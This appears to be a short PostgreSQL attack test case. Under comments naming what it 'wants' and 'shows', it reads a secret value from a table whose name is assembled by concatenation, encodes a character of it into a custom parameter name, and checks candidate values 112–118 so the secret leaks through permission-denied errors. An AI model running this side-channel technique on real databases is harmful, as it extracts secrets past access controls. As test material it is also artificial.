-- Makes up a parameter by a letter in a block that is refused, and gives a function its value.
-- wants: read
-- shows: permission denied to set parameter "x.y1_116"
-- attack:
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
CREATE FUNCTION pg_temp.f{n}() RETURNS int LANGUAGE sql SET x.y1_{n} FROM CURRENT AS 'SELECT 1';
